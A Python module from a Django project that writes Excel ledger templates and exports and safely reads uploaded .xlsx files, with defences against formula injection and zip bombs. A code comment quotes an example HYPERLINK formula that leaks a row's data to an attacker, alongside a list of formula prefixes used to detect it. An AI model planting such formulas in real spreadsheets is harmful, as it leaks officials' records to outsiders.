"""Excel ledgers (台账) and imports shared by every registry.

A registry declares its columns once (``Column``); the template, the export and the
importer's header check all come from that declaration, so a file exported today
imports tomorrow and officials see the same fixed columns they keep on paper.
"""

import datetime
import logging
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from decimal import Decimal
from io import BytesIO
from typing import Any, BinaryIO

from django.conf import settings
from django.utils import timezone
from django.utils.translation import gettext as _
from django.utils.translation import gettext_lazy
from openpyxl import Workbook
from openpyxl.cell.cell import ERROR_CODES, Cell, WriteOnlyCell
from openpyxl.comments import Comment
from openpyxl.reader.excel import ExcelReader
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._read_only import ReadOnlyWorksheet
from openpyxl.worksheet.datavalidation import DataValidation

logger = logging.getLogger(__name__)

HEADER_FILL = PatternFill("solid", fgColor="DCE6F1")
REQUIRED_FILL = PatternFill("solid", fgColor="FCE4D6")
ERROR_FILL = PatternFill("solid", fgColor="F8D7DA")
EXAMPLE_FONT = Font(italic=True, color="808080")

# The template's example row: its first cell starts with this mark, and the reader skips a
# row whose first cell does (neither imported nor reported). A fixed text, not translated,
# so a template is recognised whatever language it was downloaded in.
EXAMPLE_MARK = "【示例】"

# The error file's own columns (``error_report``). A corrected error file imports again: the
# header check accepts them and the reader leaves them out of the rows.
ROW_NUMBER_HEADER = gettext_lazy("原行号")
ERRORS_HEADER = gettext_lazy("错误说明")


@dataclass(frozen=True)
class Column:
    key: str
    header: str
    width: int = 16
    required: bool = False
    note: str = ""
    example: Any = ""
    choices: tuple[str, ...] = ()
    export: Callable[[Any], Any] | None = field(default=None, compare=False)
    importable: bool = True


class ExcelError(Exception):
    """The file as a whole cannot be read (not Excel, no sheet, wrong headers, empty)."""


# A cell whose text starts with one of these is a formula to Excel (typed, pasted, or edited
# and confirmed), and `=HYPERLINK("http://…?"&C2,"张三")` planted in a name sends a row of an
# official's ledger to whoever planted it. Every string written here that starts so is
# stored as text, shown verbatim.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _cell_value(value):
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(tzinfo=None)
    return value


def _is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and (value.startswith(FORMULA_PREFIXES) or value in ERROR_CODES)


def _as_text(cell: Cell) -> Cell:
    """Keep ``cell``'s string as text: never a formula (openpyxl makes "=…" one) or an error
    code, and marked with Excel's quote prefix so it stays text when the cell is edited."""
    if _is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def _safe(sheet, value: Any) -> Any:
    """``value`` ready for ``sheet.append``: converted for Excel, formula-like text as a text
    cell, anything else (numbers, dates, plain text) unchanged."""
    value = _cell_value(value)
    if _is_formula_like(value):
        return _as_text(WriteOnlyCell(sheet, value))
    return value


def _append(sheet, values: Iterable[Any]) -> None:
    """Append a row through the one door every written value goes through."""
    sheet.append([_safe(sheet, value) for value in values])


def _put(sheet, *, row: int, column: int, value: Any) -> Cell:
    return _as_text(sheet.cell(row=row, column=column, value=_cell_value(value)))


def _write_header(sheet, columns: list[Column]) -> None:
    _append(sheet, [column.header for column in columns])
    for index, column in enumerate(columns, start=1):
        cell = sheet.cell(row=1, column=index)
        cell.font = Font(bold=True)
        cell.fill = REQUIRED_FILL if column.required else HEADER_FILL
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
        sheet.column_dimensions[get_column_letter(index)].width = column.width
    sheet.freeze_panes = "A2"


EXAMPLE_NOTE = gettext_lazy(
    "第 2 行是示例（第一格以“%(mark)s”开头），导入时自动跳过，不会导入也不算错误；"
    "可以保留或删除，请从其下一行起填写。"
)


def _write_example(sheet, columns: list[Column]) -> None:
    """Row 2: each column's example, the first cell starting with ``EXAMPLE_MARK``."""
    values = [column.example for column in columns]
    first = "" if values[0] is None else str(values[0])
    values[0] = EXAMPLE_MARK + first
    _append(sheet, values)
    for cell in sheet[2]:
        cell.font = EXAMPLE_FONT
    sheet.cell(row=2, column=1).comment = Comment(
        _("示例行：导入时自动跳过。请从下一行起填写。"), "anjian", width=240, height=60
    )


def write_template(
    *, title: str, columns: list[Column], notes: list[str], lists: dict[str, list[str]]
) -> bytes:
    """An import template: header row, one example row, drop-downs, and a notes sheet."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title
    importable = [column for column in columns if column.importable]
    _write_header(sheet, importable)
    _write_example(sheet, importable)
    values = workbook.create_sheet(_("可选值"))
    for list_index, (name, options) in enumerate(lists.items(), start=1):
        letter = get_column_letter(list_index)
        _put(values, row=1, column=list_index, value=name).font = Font(bold=True)
        values.column_dimensions[letter].width = 24
        for row, option in enumerate(options, start=2):
            _put(values, row=row, column=list_index, value=option)
        for col_index, column in enumerate(importable, start=1):
            if column.header == name:
                validation = DataValidation(
                    type="list",
                    formula1=f"='{values.title}'!${letter}$2:${letter}${len(options) + 1}",
                    allow_blank=not column.required,
                    showErrorMessage=False,
                )
                target = get_column_letter(col_index)
                validation.add(f"{target}2:{target}20001")
                sheet.add_data_validation(validation)
    guide = workbook.create_sheet(_("填写说明"))
    guide.column_dimensions["A"].width = 24
    guide.column_dimensions["B"].width = 90
    _append(guide, [_("列"), _("说明")])
    for column in importable:
        mark = _("（必填）") if column.required else ""
        _append(guide, [column.header + mark, column.note])
    guide.append([])
    _append(guide, ["", EXAMPLE_NOTE % {"mark": EXAMPLE_MARK}])
    for line in notes:
        _append(guide, ["", line])
    for cell in guide[1]:
        cell.font = Font(bold=True)
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def write_ledger(
    target: BinaryIO | str,
    *,
    title: str,
    columns: list[Column],
    objects: Iterable[Any],
    about: list[tuple[str, str]],
    progress: Callable[[int], None] | None = None,
) -> int:
    """A fixed-column ledger of ``objects`` (streamed: constant memory). Returns the row count."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    for index, column in enumerate(columns, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = column.width
    sheet.freeze_panes = "A2"
    _append(sheet, [column.header for column in columns])
    count = 0
    for obj in objects:
        _append(sheet, [column.export(obj) for column in columns])
        count += 1
        if progress and count % 1000 == 0:
            progress(count)
    info = workbook.create_sheet(_("导出说明"))
    for key, value in [*about, (_("记录数"), str(count))]:
        _append(info, [key, value])
    workbook.save(target)
    return count


def write_tables(
    target: BinaryIO | str,
    *,
    sheets: list[tuple[str, list[str], list[list[Any]]]],
    about: list[tuple[str, str]],
) -> None:
    """Small report tables, one sheet each (title, header row, rows), and a sheet saying
    what they are — figures as a page shows them. Every value goes through ``_append``."""
    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title[:31])
        for index, text in enumerate(header, start=1):
            sheet.column_dimensions[get_column_letter(index)].width = max(10, 2 * len(text) + 4)
        sheet.freeze_panes = "A2"
        _append(sheet, header)
        for row in rows:
            _append(sheet, row)
    info = workbook.create_sheet(_("导出说明"))
    for key, value in about:
        _append(info, [key, value])
    workbook.save(target)


@dataclass
class SheetRows:
    headers: list[str]
    rows: list[tuple[int, dict[str, Any]]]  # (Excel row number, header → raw value)
    example_rows: list[int] = field(default_factory=list)  # the template's, skipped


# Limits on what an uploaded file can make the reader do (issue 9). A file is refused with a
# Chinese message as soon as it passes one; none of them is near what a real ledger needs.
EXTRA_COLUMNS = 20  # columns read beyond the template's (unknown headers there are still named)
BLANK_ROWS_ALLOWED = 10_000  # rows scanned beyond ``max_rows``, blank ones included
MAX_PARTS = 1_000  # files inside the .xlsx package (a workbook has a few dozen)
MAX_RATIO = 200  # inflated / compressed size of one part; real sheets are about 5–30
RATIO_FLOOR = 1024 * 1024  # parts smaller than this inflated are not judged by their ratio

UNREADABLE = gettext_lazy(
    "无法读取文件：请上传由模板填写的 .xlsx 文件（文件已损坏，或不是 Excel 保存的表格）"
)
CORRUPT = gettext_lazy(
    "无法读取文件：表格内容已损坏或含有不允许的内容（如外部引用），"
    "请在 Excel 中打开后另存为 .xlsx 再上传"
)


def read_rows(source: BinaryIO, *, columns: list[Column], max_rows: int) -> SheetRows:
    """Rows of the first sheet keyed by header, after checking the header row.

    The template's example row (first cell starting with ``EXAMPLE_MARK``) is skipped and
    its number kept in ``example_rows``; the error file's 原行号 and 错误说明 columns are
    accepted and left out of the rows, so a corrected error file imports as it is.

    Raises ExcelError (in Chinese) for a file that is not .xlsx, inflates past
    IMPORT_MAX_UNCOMPRESSED_BYTES or MAX_RATIO, is not valid XML (defusedxml refuses
    entities), has no data, has more than ``max_rows`` data rows or more than
    ``max_rows + BLANK_ROWS_ALLOWED`` rows in all, or whose headers do not match the template
    (naming the missing and unknown columns). Declared dimensions are ignored and at most
    ``len(columns) + EXTRA_COLUMNS`` columns are read, so the work is bounded by what the file
    holds, never by what it claims.
    """
    _check_package(source)
    try:
        workbook = _open_workbook(source)
    except Exception as exc:  # any failure of the package or its XML: the file is unusable
        logger.info("unreadable upload: %r", exc)
        raise ExcelError(str(UNREADABLE)) from None
    try:
        if not workbook.worksheets:
            raise ExcelError(_("文件中没有工作表"))
        return _scan(workbook.worksheets[0], columns=columns, max_rows=max_rows)
    except ExcelError:
        raise
    except Exception as exc:  # a parse error inside the sheet (truncated, entities, …)
        logger.info("corrupt sheet in upload: %r", exc)
        raise ExcelError(str(CORRUPT)) from None
    finally:
        workbook.close()


def _check_package(source: BinaryIO) -> None:
    """Refuse a zip bomb from the package's directory, before anything is inflated.

    The sizes are the declared ones; Python's zipfile never inflates a part past its
    declared size (it stops there and fails the CRC), so they bound the parser's input.
    """
    limit = settings.IMPORT_MAX_UNCOMPRESSED_BYTES
    try:
        source.seek(0)
        with zipfile.ZipFile(source) as archive:
            parts = archive.infolist()
    except Exception as exc:
        logger.info("upload is not a zip package: %r", exc)
        raise ExcelError(str(UNREADABLE)) from None
    finally:
        source.seek(0)
    if len(parts) > MAX_PARTS:
        raise ExcelError(
            _("文件结构异常（包含 %(n)d 个部件），不是正常的 Excel 表格，已拒绝读取")
            % {"n": len(parts)}
        )
    if sum(part.file_size for part in parts) > limit:
        raise ExcelError(
            _(
                "文件解压后超过 %(mb)d MB，已拒绝读取（可能是恶意构造的文件）。"
                "请删除无关的工作表、图片后另存为 .xlsx，或拆分后分批导入"
            )
            % {"mb": limit // (1024 * 1024)}
        )
    for part in parts:
        if part.file_size > RATIO_FLOOR and part.file_size > MAX_RATIO * part.compress_size:
            raise ExcelError(
                _(
                    "文件解压后是压缩前的 %(r)d 倍，远超正常表格，已拒绝读取（可能是恶意构造的"
                    "文件）。请删除表格中多余的空行、空列后另存为 .xlsx 再上传"
                )
                % {"r": part.file_size // max(part.compress_size, 1)}
            )


class _UnsizedSheet(ReadOnlyWorksheet):
    """A read-only sheet that neither trusts nor looks for a declared size.

    openpyxl sizes a read-only sheet when it opens it: from its ``<dimension>`` (a file can
    claim A1:XFD1048576, and every row is then padded to 16,384 cells) or, without one, by
    parsing the whole sheet once (millions of empty rows cost their time before the first
    row is read). Unsized — as after ``reset_dimensions()`` — rows are as wide as the
    caller's ``max_col`` and reading stops when the caller stops.
    """

    def _get_size(self) -> None:
        self.reset_dimensions()


class _UnsizedReader(ExcelReader):
    """openpyxl's read-only reader, opening worksheets as ``_UnsizedSheet`` (no chartsheets)."""

    def read_worksheets(self) -> None:
        for sheet, rel in self.parser.find_sheets():
            if rel.target not in self.valid_files or "chartsheet" in rel.Type:
                continue
            worksheet = _UnsizedSheet(self.wb, sheet.name, rel.target, self.shared_strings)
            worksheet.sheet_state = sheet.state
            self.wb._sheets.append(worksheet)


def _open_workbook(source: BinaryIO):
    reader = _UnsizedReader(source, read_only=True, data_only=True)
    reader.read()
    return reader.wb


def _scan(sheet, *, columns: list[Column], max_rows: int) -> SheetRows:
    rows = sheet.iter_rows(max_col=len(columns) + EXTRA_COLUMNS, values_only=True)
    header_row = next(rows, None)
    if header_row is None or not any(header_row):
        raise ExcelError(_("文件为空：第一行应为表头"))
    headers = [str(h).strip().rstrip("*") if h is not None else "" for h in header_row]
    while headers and not headers[-1]:
        headers.pop()
    _check_headers(headers, columns)
    keep = set(headers) - {"", *_report_headers()}
    scan_limit = max_rows + BLANK_ROWS_ALLOWED
    data: list[tuple[int, dict[str, Any]]] = []
    examples: list[int] = []
    for number, values in enumerate(rows, start=2):
        if number - 1 > scan_limit:  # every row counts, blank or not: blank rows cost nothing
            raise ExcelError(  # to send but time to read
                _(
                    "表格共有超过 %(n)d 行（含空行），已停止读取。"
                    "请删除数据下方的空行（选中后删除整行），或拆分后分批导入"
                )
                % {"n": scan_limit}
            )
        if values is None or all(v is None or str(v).strip() == "" for v in values):
            continue
        if is_example(values):
            examples.append(number)
            continue
        if len(data) >= max_rows:
            raise ExcelError(_("文件超过 %(n)d 行，请拆分后分批导入") % {"n": max_rows})
        data.append((number, {h: v for h, v in zip(headers, values, strict=False) if h in keep}))
    if not data and examples:
        raise ExcelError(
            _("文件中只有模板的示例行（第 %(rows)s 行），没有要导入的数据")
            % {"rows": "、".join(str(n) for n in examples)}
        )
    if not data:
        raise ExcelError(_("文件中没有数据行（表头以下为空）"))
    return SheetRows(headers=headers, rows=data, example_rows=examples)


def is_example(values) -> bool:
    """Whether a row (its cells from column A) is the template's example row."""
    first = values[0] if values else None
    return isinstance(first, str) and first.strip().startswith(EXAMPLE_MARK)


def _report_headers() -> set[str]:
    return {str(ROW_NUMBER_HEADER), str(ERRORS_HEADER)}


def _check_headers(headers: list[str], columns: list[Column]) -> None:
    # Export-only columns (系统编号, 更新时间 …) are accepted and ignored, so an exported
    # ledger can be edited and imported back; so are the error file's 原行号 and 错误说明.
    known = {column.header for column in columns} | _report_headers()
    present = [h for h in headers if h]
    duplicates = sorted({h for h in present if present.count(h) > 1})
    missing = [c.header for c in columns if c.importable and c.required and c.header not in present]
    unknown = [h for h in present if h not in known]
    problems = []
    if missing:
        problems.append(_("缺少必填列：%(cols)s") % {"cols": "、".join(missing)})
    if unknown:
        problems.append(_("无法识别的列：%(cols)s") % {"cols": "、".join(unknown)})
    if duplicates:
        problems.append(_("重复的列：%(cols)s") % {"cols": "、".join(duplicates)})
    if problems:
        raise ExcelError(_("表头与模板不一致。") + "；".join(problems) + _("。请下载最新模板。"))


def error_report(
    *,
    columns: list[Column],
    sheet: SheetRows,
    errors: dict[int, list[str]],
    every_row: bool = False,
) -> bytes:
    """The uploaded rows that failed (``every_row``: all of them, when none was imported),
    with "原行号" and "错误说明" columns: fixed, the file imports again as it is."""
    workbook = Workbook()
    out = workbook.active
    out.title = _("错误行")
    importable = [c for c in columns if c.importable and c.header in sheet.headers]
    report_columns = [
        Column("_row", str(ROW_NUMBER_HEADER), 8),
        *importable,
        Column("_errors", str(ERRORS_HEADER), 60),
    ]
    _write_header(out, report_columns)
    for number, values in sheet.rows:
        if number not in errors and not every_row:
            continue
        messages = "；".join(errors.get(number, ()))
        _append(out, [number, *[values.get(c.header) for c in importable], messages or None])
        if messages:
            out.cell(row=out.max_row, column=len(report_columns)).fill = ERROR_FILL
    buffer = BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- row problems, as every importer reports them ----------------------------------------------


def invalid_choice(value: Any, options: Iterable[str]) -> str:
    """A cell holding none of a column's choices: what it holds and what it may hold."""
    return _("“%(v)s”无效，可选：%(options)s") % {
        "v": value,
        "options": "、".join(str(option) for option in options),
    }


class RowProblems:
    """What is wrong with one row, as the report lists it.

    One message per cell: the first one added for a column wins, so an importer adds the
    most specific first (“街镇‘某某’不存在” before the form's “必填项” about the same
    cell, emptied because it named nothing). ``messages()`` lists them in the template's
    column order, each as “【列名】…”, then what belongs to no column.
    """

    def __init__(self, columns: list[Column]):
        self._columns = columns
        self._keys = {column.key for column in columns}
        self._cells: dict[str, str] = {}
        self._general: list[str] = []

    def add(self, key: str | None, message: Any) -> None:
        if key in self._keys:
            self._cells.setdefault(key, str(message))
        elif str(message) not in self._general:
            self._general.append(str(message))

    def __contains__(self, key: str) -> bool:
        return key in self._cells

    def __bool__(self) -> bool:
        return bool(self._cells or self._general)

    def messages(self) -> list[str]:
        cells = [
            f"【{column.header}】{self._cells[column.key]}"
            for column in self._columns
            if column.key in self._cells
        ]
        return cells + self._general
